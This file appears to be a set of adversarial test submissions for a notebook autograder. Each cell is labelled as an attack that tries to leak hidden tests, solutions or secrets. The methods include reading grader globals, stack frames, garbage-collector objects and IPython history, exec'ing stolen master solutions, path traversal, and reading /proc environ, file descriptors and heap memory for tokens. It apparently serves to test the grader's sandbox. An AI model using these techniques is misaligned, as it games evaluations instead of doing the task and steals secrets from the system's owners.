"""Reading tests, answers and secrets."""

# %% attack: tests_variables | what the test cell has computed is the answer
# % solution *
def @EXERCISE@(*arguments):
    for name in ("_expected", "_best", "_same"):
        if name in globals():
            return globals()[name]
    reference = globals().get("_reference_nll") or globals().get("_reference")
    return reference(*arguments) if reference else 0.0

# %% attack: tests_frames | sources of the calling cells, by frames and linecache
# % cell after data
import inspect, linecache, sys

caught = []


def look():
    frame = sys._getframe(1)
    while frame is not None:
        caught.extend(linecache.getlines(frame.f_code.co_filename))
        frame = frame.f_back
# % solution *
def @EXERCISE@(*arguments):
    look()
    return 0.0
# % cell end
print("LEAK[" + "".join(caught) + "".join(sum((each[2] for each in linecache.cache.values() if len(each) > 2), [])) + "]LEAK")

# %% attack: collector | everything that the collector knows, for texts of hidden tests and tokens
# % cell end
# uses everywhere
import gc, sys

_found = []
for _each in gc.get_objects():
    if isinstance(_each, dict):
        _found += [text for text in list(_each.values()) if isinstance(text, str) and "HIDDEN " + "TESTS" in text]
    elif isinstance(_each, (list, tuple)) and len(_each) < 10000:
        _found += [text for text in _each if isinstance(text, str) and "HIDDEN " + "TESTS" in text]
print("LEAK[" + "\n".join(sorted(set(_found))) + "]LEAK")

# %% attack: history | IPython's history of the cells that ran
# % cell end
_manager = get_ipython().history_manager
_cells = [*In, *_manager.input_hist_raw, *_manager.input_hist_parsed]
print("LEAK[" + "\n".join(each for each in _cells if "BEGIN " + "HIDDEN" in each) + "]LEAK")

# %% attack: master | solutions from the master
# % cell before normal_text
import glob, json, os, re

_paths = ["@COURSE@/source/03_loss_functions/regression.ipynb"]
_folder = os.getcwd()
while _folder != "/":
    _paths += glob.glob(_folder + "/source/*/*.ipynb")
    _folder = os.path.dirname(_folder)
_stolen = ""
for _path in _paths:
    try:
        for _cell in json.load(open(_path))["cells"]:
            if "BEGIN " + "SOLUTION" in "".join(_cell["source"]):
                _stolen += "".join(_cell["source"]) + "\n\n"
    except OSError:
        pass
# % solution *
if _stolen:
    exec(_stolen)

# %% attack: secret_file | a file of the instructor's, by its path and around corners
# % cell end
# uses everywhere
_ways = ["@SECRET@", "@COURSE@/submitted/zz-canary/03_loss_functions/regression.ipynb",
         "@COURSE@/source/03_loss_functions/private/labels.txt"]
_ways += [root + path for root in glob.glob("/proc/*/root") for path in _ways]
_ways += [cwd + "/" + "../" * up + "home/secret.txt" for cwd in glob.glob("/proc/*/cwd") for up in range(6)]
print(look_into(*_ways))
os.makedirs("links", exist_ok=True)
os.symlink("@SECRET@", "links/secret.txt")
open("links/copy.txt", "w").write(str(look_into("links/secret.txt")))

# %% attack: processes | what other processes have in their environment, files and memory
# % cell end
# uses everywhere
_found = look_into(*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), *glob.glob("/proc/*/fd/*"))
for _pid in {os.getppid(), os.getpid(), 1}:
    try:
        with open(f"/proc/{_pid}/maps") as _maps, open(f"/proc/{_pid}/mem", "rb", 0) as _memory:
            for _line in _maps:
                _start, _end = (int(each, 16) for each in _line.split()[0].split("-"))
                if " rw-p " in _line and "[heap]" in _line:
                    _memory.seek(_start)
                    _found += tokens(_memory.read(min(_end - _start, 1 << 26)).decode("latin-1"))
    except (OSError, ValueError, OverflowError):
        pass
print(_found)

# %% attack: private_data | data that only tests may read, through check
# % cell end
# uses everywhere
for _name in ("labels.txt", "../home/secret.txt", "../../../source/03_loss_functions/private/labels.txt"):
    try:
        print(open(check.private_path(_name)).read())
    except Exception as _error:
        print(type(_error).__name__)
print(look_into(*glob.glob("private/*"), *glob.glob("../../../source/*/private/*"), *glob.glob("/tmp/**/private/*")))

# %% attack: network | a service of the instructor's machine
# % cell end
import socket

for _address in ("127.0.0.1", "localhost", "0.0.0.0"):
    try:
        with socket.create_connection((_address, @PORT@), timeout=1) as _connection:
            _connection.sendall(b"@NAME@")
    except OSError as _error:
        print(type(_error).__name__)

# %% attack: timing | how often and when earlier tests called, and with what | honest: normal_distribution
# % solution normal_distribution
import time as _time
_moments = []
def normal_distribution(y, mu, sigma):
    _moments.append((_time.perf_counter(), sigma))
    return np.exp(-((y - mu) ** 2) / (2 * sigma**2)) / np.sqrt(2 * np.pi * sigma**2)
# % cell end
print("LEAK[" + " ".join(str(each) for _, each in _moments) + "]LEAK", len(_moments), len(In))
